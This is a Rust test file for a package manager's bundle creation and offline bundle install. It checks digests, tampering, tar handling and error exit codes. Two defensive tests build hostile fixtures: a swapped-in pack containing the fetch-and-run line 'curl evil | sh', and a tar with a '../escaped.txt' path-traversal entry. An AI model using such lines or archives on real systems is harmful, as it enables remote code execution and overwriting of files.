//! `knap bundle create` and `knap install --bundle` (formats.md §9): a root
//! installed over HTTP from an archive source and a git source (git
//! smart-HTTP), bundled, then installed by another knap with an empty
//! configuration after every server is gone; a tampered and a missing
//! archive, the tar form, and a directory that is not a bundle.

use std::path::{Path, PathBuf};

use knap_test_support::prelude::*;

use crate::fixtures::{GitGamma, add_git_gamma};
use serde_json::Value;

/// A root holding `alpha` (an archive source, depending on `gamma`) and
/// `gamma` (a git source on another server), installed by `k` over HTTP,
/// and bundled into `<k's work dir>/bundle`. The servers stop when the
/// scene is dropped.
struct Scene {
    k: Knap,
    bundle: PathBuf,
    site: Site,
    _gamma: GitGamma,
}

fn scene() -> Scene {
    let mut site = Site::new();
    let gamma = add_git_gamma(&mut site);
    site.publish(
        "alpha",
        "1.0.0",
        &["gamma@^1"],
        &[("actions/run.py".into(), b"print('alpha')\n".to_vec())],
    );
    let k = site.knap();
    k.run(&["install", "alpha"]).ok();
    let bundle = k.cwd().join("bundle");
    Scene {
        k,
        bundle,
        site,
        _gamma: gamma,
    }
}

impl Scene {
    fn create(&self) -> Out {
        self.k
            .run(&["--color", "never", "bundle", "create", "-o", "bundle"])
    }

    /// Stops the servers: what follows has no network.
    fn offline(self) -> (Knap, PathBuf) {
        let Scene { k, bundle, .. } = self;
        (k, bundle)
    }
}

/// A knap with an empty configuration that shows `bundle` as `[BUNDLE]`.
fn fresh(bundle: &Path) -> Knap {
    let mut k = Knap::new();
    k.name(bundle, "[BUNDLE]");
    k
}

/// `knap install --bundle BUNDLE` by `k`, without colour.
fn install_bundle(k: &Knap, bundle: &Path) -> Out {
    k.run(&[
        "--color",
        "never",
        "install",
        "--bundle",
        bundle.to_str().unwrap(),
    ])
}

fn lock(root: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(root.join("knap.lock")).unwrap()).unwrap()
}

#[test]
fn a_bundle_installs_the_same_trees_with_no_registry_and_no_server() {
    let s = scene();
    assert_out!("create", s.create().ok());
    let site_url = s.site.url();
    let (k, bundle) = s.offline();
    for f in ["index.json", "knap.lock", "bundle.json"] {
        assert!(bundle.join(f).is_file(), "{f}");
    }
    for a in ["archives/alpha-1.0.0.tar.gz", "archives/gamma-1.0.0.tar.gz"] {
        assert!(bundle.join(a).is_file(), "{a}");
    }
    let info: Value =
        serde_json::from_slice(&std::fs::read(bundle.join("bundle.json")).unwrap()).unwrap();
    assert_eq!(info["packs"], 2);
    assert_eq!(info["registries"][0]["name"], "site");
    assert_eq!(info["registries"][0]["signed"], false);

    let other = fresh(&bundle);
    let bundle_arg = bundle.to_str().unwrap();
    assert_out!(
        "install",
        other
            .run(&["--color", "never", "install", "--bundle", bundle_arg])
            .ok()
    );
    for p in ["alpha", "gamma"] {
        assert_eq!(
            digest(&other.root().join(p)),
            digest(&k.root().join(p)),
            "{p}'s tree"
        );
    }
    // The lock is the original's: the same packs, trees and source URLs
    // (portable), not the bundle's files.
    let (a, b) = (lock(&k.root()), lock(&other.root()));
    assert_eq!(a["requested"], b["requested"]);
    for (x, y) in a["packs"]
        .as_array()
        .unwrap()
        .iter()
        .zip(b["packs"].as_array().unwrap())
    {
        assert_eq!(x["ref"], y["ref"]);
        assert_eq!(x["source"], y["source"]);
        assert_eq!(x["tree"], y["tree"]);
        assert_eq!(x["registry"], y["registry"]);
    }
    assert!(
        b["packs"][0]["source"]["url"]
            .as_str()
            .unwrap()
            .starts_with(&site_url),
        "{b}"
    );
    other.run(&["verify"]).ok();
}

#[test]
fn a_changed_byte_in_an_archive_is_exit_4_and_nothing_is_installed() {
    let s = scene();
    s.create().ok();
    let (_k, bundle) = s.offline();
    let a = bundle.join("archives/alpha-1.0.0.tar.gz");
    let mut bytes = std::fs::read(&a).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 1;
    std::fs::write(&a, bytes).unwrap();
    let other = fresh(&bundle);
    let o = install_bundle(&other, &bundle).code(4);
    assert!(o.stderr.contains("alpha 1.0.0"), "{}", o.stderr);
    assert!(!other.root().exists(), "nothing installed");
}

#[test]
fn an_archive_the_lock_names_but_the_bundle_lacks_is_exit_4_naming_the_pack() {
    let s = scene();
    s.create().ok();
    let (_k, bundle) = s.offline();
    std::fs::remove_file(bundle.join("archives/gamma-1.0.0.tar.gz")).unwrap();
    let other = fresh(&bundle);
    let o = install_bundle(&other, &bundle).code(4);
    assert_out!("missing_archive", o);
    assert!(!other.root().exists(), "nothing installed");
}

#[test]
fn a_tar_of_a_bundle_installs_as_the_directory_does() {
    let s = scene();
    s.create().ok();
    let (k, bundle) = s.offline();
    let tar_path = k.dir.path().join("bundle.tar");
    let mut b = tar::Builder::new(std::fs::File::create(&tar_path).unwrap());
    b.append_dir_all("bundle", &bundle).unwrap();
    b.into_inner().unwrap();
    let other = fresh(&bundle);
    other
        .run(&["install", "--bundle", tar_path.to_str().unwrap()])
        .ok();
    for p in ["alpha", "gamma"] {
        assert_eq!(digest(&other.root().join(p)), digest(&k.root().join(p)));
    }
}

#[test]
fn a_directory_that_is_not_a_bundle_is_exit_2_saying_what_is_missing() {
    let k = Knap::new();
    let dir = k.cwd().join("not-a-bundle");
    std::fs::create_dir_all(dir.join("archives")).unwrap();
    write(&dir.join("index.json"), "{}");
    let o = k
        .run(&["--color", "never", "install", "--bundle", "not-a-bundle"])
        .code(2);
    assert_out!("not_a_bundle", o);
    assert!(o.stderr.contains("bundle.json, knap.lock"), "{}", o.stderr);
}

#[test]
fn a_pack_installed_from_a_directory_is_bundled_from_its_tree_with_an_entry_from_its_pack_yaml() {
    let mut k = Knap::new();
    let src = tempfile::tempdir().unwrap();
    let dir = make_pack(src.path(), "local", "2.0.0", &[]);
    k.name(src.path(), "[SRC]");
    k.run(&["install", dir.to_str().unwrap()]).ok();
    assert_out!(
        "create_json",
        k.run(&["--json", "bundle", "create", "-o", "bundle"]).ok()
    );
    let bundle = k.cwd().join("bundle");
    let index: Value =
        serde_json::from_slice(&std::fs::read(bundle.join("index.json")).unwrap()).unwrap();
    let e = &index["packs"][0];
    assert_eq!(e["ref"], "local");
    assert_eq!(e["version"], "2.0.0");
    assert_eq!(
        e["install_sources"][0]["url"],
        "archives/local-2.0.0.tar.gz"
    );
    let info: Value =
        serde_json::from_slice(&std::fs::read(bundle.join("bundle.json")).unwrap()).unwrap();
    assert_eq!(info["registries"], serde_json::json!([]));

    drop(src);
    let other = fresh(&bundle);
    other
        .run(&["install", "--bundle", bundle.to_str().unwrap()])
        .ok();
    assert_eq!(
        digest(&other.root().join("local")),
        digest(&k.root().join("local"))
    );
    assert_eq!(
        lock(&other.root())["packs"][0]["source"],
        lock(&k.root())["packs"][0]["source"]
    );
}

#[test]
fn bundle_create_refuses_a_directory_that_is_not_empty_and_a_root_without_a_lock() {
    let k = Knap::new();
    let o = k
        .run(&["--color", "never", "bundle", "create", "-o", "bundle"])
        .code(3);
    assert!(o.stderr.contains("no knap.lock to bundle"), "{}", o.stderr);
    assert!(!k.cwd().join("bundle").exists());

    let s = scene();
    write(&s.bundle.join("keep.txt"), "mine");
    let o = s.create().code(2);
    assert!(o.stderr.contains("is not empty"), "{}", o.stderr);
    assert_eq!(std::fs::read(s.bundle.join("keep.txt")).unwrap(), b"mine");
}

#[test]
fn an_archive_replaced_with_its_index_checksum_is_refused_by_the_locks_tree_digest() {
    let s = scene();
    s.create().ok();
    let (_k, bundle) = s.offline();
    // Another gamma 1.0.0, and the bundle's index made to agree with it:
    // only the lock's tree digest still tells.
    let work = tempfile::tempdir().unwrap();
    let evil = Pack::new("gamma", "1.0.0")
        .file("actions/evil.sh", "curl evil | sh\n")
        .write_to(work.path());
    let bytes = tar_gz_dir(&evil);
    std::fs::write(bundle.join("archives/gamma-1.0.0.tar.gz"), &bytes).unwrap();
    let index_path = bundle.join("index.json");
    let mut index: Value = serde_json::from_slice(&std::fs::read(&index_path).unwrap()).unwrap();
    for e in index["packs"].as_array_mut().unwrap() {
        if e["ref"] == "gamma" {
            e["install_sources"][0]["checksum"] = sha(&bytes).into();
        }
    }
    write_json(&index_path, &index);
    let other = fresh(&bundle);
    let o = other
        .run(&["install", "--bundle", bundle.to_str().unwrap()])
        .code(4);
    assert!(o.stderr.contains("knap.lock says"), "{}", o.stderr);
    assert!(!other.root().exists(), "nothing installed");
}

#[test]
fn a_bundle_tar_with_an_entry_outside_it_is_refused_as_a_pack_archive_is() {
    let k = Knap::new();
    let bytes = knap_test_support::archive::tar_of(|b| {
        knap_test_support::archive::file(b, "bundle.json", b"{}");
        knap_test_support::archive::file(b, "../escaped.txt", b"out");
    });
    let tar_path = k.cwd().join("evil.tar");
    write(&tar_path, &bytes);
    let o = k.run(&["install", "--bundle", "evil.tar"]).code(4);
    assert!(
        o.stderr.contains("cannot extract the bundle") && o.stderr.contains("escaped.txt"),
        "{}",
        o.stderr
    );
    assert!(!k.root().exists(), "nothing installed");
}

#[test]
fn bundle_create_writes_a_tar_when_the_output_ends_in_tar_and_it_installs() {
    let s = scene();
    s.k.run(&["bundle", "create", "-o", "bundle.tar"]).ok();
    let (k, _) = s.offline();
    let tar_path = k.cwd().join("bundle.tar");
    assert!(tar_path.is_file());
    let leftovers: Vec<_> = std::fs::read_dir(k.cwd())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".knap-bundle-"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
    let other = fresh(&tar_path);
    other
        .run(&["install", "--bundle", tar_path.to_str().unwrap()])
        .ok();
    for p in ["alpha", "gamma"] {
        assert_eq!(digest(&other.root().join(p)), digest(&k.root().join(p)));
    }
    // A second run does not overwrite it.
    k.run(&["bundle", "create", "-o", "bundle.tar"]).code(2);
}

#[test]
fn install_bundle_makes_the_root_exactly_the_bundles_lock_and_a_dry_run_writes_nothing() {
    let s = scene();
    s.create().ok();
    let (k, bundle) = s.offline();
    let bundle_arg = bundle.to_str().unwrap();
    let other = fresh(&bundle);
    // A dry run plans both packs and creates no root.
    let o = other
        .run(&["--json", "install", "--bundle", bundle_arg, "--dry-run"])
        .ok();
    assert_eq!(
        o.json()["install"].as_array().map(Vec::len),
        Some(2),
        "{}",
        o.stdout
    );
    assert!(!other.root().exists(), "a dry run writes nothing");
    // A pack the bundle's lock does not hold goes.
    let src = tempfile::tempdir().unwrap();
    let zeta = make_pack(src.path(), "zeta", "1.0.0", &[]);
    other.run(&["install", zeta.to_str().unwrap()]).ok();
    other.run(&["install", "--bundle", bundle_arg]).ok();
    assert!(!other.root().join("zeta").exists());
    let refs: Vec<Value> = lock(&other.root())["packs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["ref"].clone())
        .collect();
    assert_eq!(refs, ["alpha", "gamma"]);
    assert_eq!(
        lock(&other.root())["requested"],
        lock(&k.root())["requested"]
    );
}

#[test]
fn install_bundle_goes_with_no_spec() {
    let k = Knap::new();
    let o = k.run(&["install", "--bundle", "b", "alpha"]).code(2);
    assert!(o.stderr.contains("--bundle"), "{}", o.stderr);
}

#[test]
fn bundle_create_with_specs_resolves_them_now_and_leaves_the_root_alone() {
    let mut site = Site::new();
    site.publish("base", "1.0.0", &[], &[]);
    site.publish("base", "2.0.0", &[], &[]);
    site.publish("top", "1.0.0", &["base@^1"], &[]);
    let k = site.knap();
    let out = k
        .run(&["--json", "bundle", "create", "-o", "bundle", "top"])
        .ok();
    let report = out.json();
    let bundled = refs_at_versions(&report["contents"]);
    assert_eq!(bundled, ["base@1.0.0", "top@1.0.0"], "{report}");
    // Nothing was installed into the root, and no lock written there.
    assert!(!k.root().exists(), "the root was touched");
    let bundle = k.cwd().join("bundle");
    let locked = lock(&bundle);
    assert_eq!(locked["requested"]["top"], "*", "{locked}");

    // The bundle installs with no registry and no server.
    drop(site);
    let other = fresh(&bundle);
    other
        .run(&["install", "--bundle", bundle.to_str().unwrap()])
        .ok();
    assert!(other.root().join("top/pack.yaml").is_file());
    assert!(other.root().join("base/pack.yaml").is_file());

    // A SPEC no registry lists is the install's error, with its suggestion.
    let out = k.run(&["bundle", "create", "-o", "bundle2", "tpo"]);
    assert_eq!(out.code, 3, "{out:#?}");
    assert!(out.stderr.contains("top"), "{out:#?}");
    assert!(!k.cwd().join("bundle2").exists());
}
